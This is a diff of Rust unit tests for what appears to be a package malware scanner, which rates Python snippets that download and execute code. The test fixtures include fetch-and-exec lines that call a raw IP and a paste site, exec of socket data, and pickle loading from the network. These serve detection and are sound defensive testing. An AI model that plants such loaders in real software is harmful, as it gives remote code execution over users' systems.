@@ -707,11 +707,15 @@ fn code_generated_from_a_visible_template_is_not_hidden_code() {
     let r = rules(template);
     assert!(r.contains(&("exec-dynamic", Severity::Medium)), "{r:?}");
     assert!(!r.iter().any(|(_, s)| *s >= Severity::High), "{r:?}");
+    // Running whatever arrives is high when a caller asks, critical as soon
+    // as the module loads (see `code_fetched_and_run_is_critical_unless_asked`).
     let whatever = "def run(conn, ns):\n    exec(conn.recv(), ns)\n";
-    assert!(rules(whatever).contains(&("exec-downloaded", Severity::Critical)), "{:?}", rules(whatever));
+    assert!(rules(whatever).contains(&("exec-downloaded", Severity::High)), "{:?}", rules(whatever));
+    let loaded = format!("{whatever}run(connect(), {{}})\n");
+    assert!(rules(&loaded).contains(&("exec-downloaded", Severity::Critical)), "{:?}", rules(&loaded));
     // A trivial template around what arrives is no template.
     let wrapped = "def run(conn, ns):\n    exec('%s' % conn.recv(), ns)\n";
-    assert!(rules(wrapped).contains(&("exec-downloaded", Severity::Critical)), "{:?}", rules(wrapped));
+    assert!(rules(wrapped).contains(&("exec-downloaded", Severity::High)), "{:?}", rules(wrapped));
 }
 
 /// Shellcode is a chain (memory made executable, then code copied in or a
@@ -1379,6 +1383,83 @@ fn a_command_script_runs_when_its_user_clicks_the_button() {
     assert_eq!(f.severity, Severity::High);
     assert!(f.because.iter().any(|b| b.contains("clicks the button")), "{f:#?}");
     assert_eq!(severity_of("Tools.extension/startup.py", hostile, "process-hostile"), Some(Severity::Critical));
+}
+
+/// Code fetched and run is the package's own act while it installs or
+/// loads: critical. When a caller or its user asks (a library function, a
+/// button, a Dynamo graph), a loader runs what its source serves: high, for
+/// a reviewer; critical again when the file talks to a raw IP, a paste site
+/// or a webhook, or when another file of the package calls the loader while
+/// loading. Objects unpickled from the network alike. Written for the test.
+#[test]
+fn code_fetched_and_run_is_critical_unless_asked() {
+    let found = |files: &[(&str, &str)], rule: &str| {
+        let entries: Vec<Entry> = files.iter().map(|(path, src)| Entry { path, bytes: src.as_bytes() }).collect();
+        let report = scan(&ManifestFacts::default(), &entries);
+        report.findings.iter().find(|f| f.rule == rule).cloned().unwrap_or_else(|| panic!("{:#?}", report.findings))
+    };
+    let at_import = "import urllib.request\nexec(urllib.request.urlopen('https://example.com/tool.py').read())\n";
+    assert_eq!(found(&[("pkg/loader.py", at_import)], "exec-downloaded").severity, Severity::Critical);
+    let asked = "import urllib.request\ndef load(url):\n    exec(urllib.request.urlopen(url).read())\n";
+    let f = found(&[("pkg/loader.py", asked)], "exec-downloaded");
+    assert_eq!(f.severity, Severity::High, "{f:#?}");
+    assert!(f.message.ends_with("when asked") && f.because.iter().any(|b| b.contains("`load`")), "{f:#?}");
+    // The author's kind of host anywhere in the file, before or after the call.
+    let raw_ip = "import urllib.request\ndef load():\n    \
+                  exec(urllib.request.urlopen('http://203.0.113.5/p').read())\n";
+    assert_eq!(found(&[("pkg/loader.py", raw_ip)], "exec-downloaded").severity, Severity::Critical);
+    let later = format!("{asked}def ping():\n    urllib.request.urlopen('https://pastebin.com/raw/x1')\n");
+    let f = found(&[("pkg/loader.py", &later)], "exec-downloaded");
+    assert_eq!(f.severity, Severity::Critical, "{f:#?}");
+    assert!(!f.message.ends_with("when asked"), "{f:#?}");
+    // Another file calls the loader while the package loads (directly, or
+    // through a function of the loader's file); a call from a function
+    // nobody calls asks nothing.
+    for init in
+        ["from .loader import load\nload('https://example.com/x.py')\n", "from . import loader\nloader.start()\n"]
+    {
+        let files = [("pkg/loader.py", &*format!("{asked}def start():\n    load(URL)\n")), ("pkg/__init__.py", init)];
+        let f = found(&files, "exec-downloaded");
+        assert_eq!(f.severity, Severity::Critical, "{init}\n{f:#?}");
+        assert!(f.because.iter().any(|b| b.starts_with("when: while the package loads")), "{f:#?}");
+        assert!(!f.message.ends_with("when asked"), "{f:#?}");
+    }
+    let later_call = "from .loader import load\ndef main():\n    load('https://example.com/x.py')\n";
+    let f = found(&[("pkg/loader.py", asked), ("pkg/__init__.py", later_call)], "exec-downloaded");
+    assert_eq!(f.severity, Severity::High, "{f:#?}");
+    // Unpickled from the network: the same judgement.
+    let unpickle = "import pickle, requests\ndef load(u):\n    return pickle.loads(requests.get(u).content)\n";
+    assert_eq!(found(&[("pkg/model.py", unpickle)], "unsafe-deserialization").severity, Severity::High);
+    let unpickle_now = format!("{unpickle}MODEL = load('https://example.com/m.pkl')\n");
+    assert_eq!(found(&[("pkg/model.py", &unpickle_now)], "unsafe-deserialization").severity, Severity::Critical);
+}
+
+/// A Dynamo Python node's script sets `OUT` (and reads `IN` or loads
+/// assemblies through `clr`): Dynamo runs it when its user runs the graph.
+/// A team's script kept on GitHub and run from such a node is high, and the
+/// chain says when; the same code in a module, or in a package's
+/// `__init__.py`, runs as it loads: critical. Both front-ends (a print
+/// statement sends the source to the Python 2 one). Written for the test.
+#[test]
+fn a_dynamo_node_runs_when_its_user_runs_the_graph() {
+    let node = "import clr\nclr.AddReference('RevitServices')\nimport urllib2\n\
+                src = urllib2.urlopen('https://raw.githubusercontent.com/team/scripts/main/tool.py').read()\n\
+                exec(src)\nOUT = 'done'\n";
+    for src in [node.to_owned(), format!("{node}print 'ran'\n")] {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "graphs/load tool.py", bytes: src.as_bytes() }]);
+        let f = report.findings.iter().find(|f| f.rule == "exec-downloaded").expect("exec-downloaded");
+        assert_eq!(f.severity, Severity::High, "{src}\n{:#?}", report.findings);
+        assert!(f.because.iter().any(|b| b.contains("Dynamo graph")), "{f:#?}");
+        assert_eq!(severity_of("pkg/__init__.py", &src, "exec-downloaded"), Some(Severity::Critical));
+        // Without `OUT`, or setting it only inside a function, it is a module.
+        let no_out = src.replace("OUT = 'done'\n", "");
+        assert_eq!(severity_of("graphs/load tool.py", &no_out, "exec-downloaded"), Some(Severity::Critical));
+        let in_function = src.replace("OUT = 'done'\n", "def f():\n    OUT = 'done'\n");
+        assert_eq!(severity_of("graphs/load tool.py", &in_function, "exec-downloaded"), Some(Severity::Critical));
+    }
+    // `IN` alone names a node's inputs too.
+    let inputs = "import urllib.request\nurl = IN[0]\nexec(urllib.request.urlopen(url).read())\nOUT = 1\n";
+    assert_eq!(severity_of("node.py", inputs, "exec-downloaded"), Some(Severity::High));
 }
 
 /// PowerShell's `Invoke-Expression` given a quoted literal runs code
